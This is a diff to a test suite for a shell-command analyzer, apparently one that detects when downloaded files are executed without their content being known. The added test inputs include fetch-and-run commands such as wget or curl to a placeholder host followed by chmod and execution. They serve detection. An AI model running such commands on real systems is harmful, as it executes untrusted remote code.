@@ -117,6 +117,12 @@ describe("scripts written then run", () => {
   it("content the text does not know is a shape-3 gap when the file runs", () => {
     expect(shapes(analyze("curl -s https://x.example/i.sh > i.sh; bash i.sh"))).toEqual([3]);
   });
+  it("a downloader's output file is written with content not known", () => {
+    expect(shapes(analyze("wget -O /tmp/a https://x.example/a && chmod +x /tmp/a && /tmp/a"))).toEqual([3]);
+    expect(shapes(analyze("curl -fsSL -o i.sh https://x.example/i.sh && bash i.sh"))).toEqual([3]);
+    expect(shapes(analyze("curl --output=i.sh https://x.example/i.sh; sh i.sh"))).toEqual([3]);
+    expect(shapes(analyze("curl -o data.json https://x.example/d && jq . data.json"))).toEqual([]);
+  });
   it("a file never run is only written", () => {
     expect(shapes(analyze("curl -s https://x.example/i.sh > i.sh"))).toEqual([]);
   });
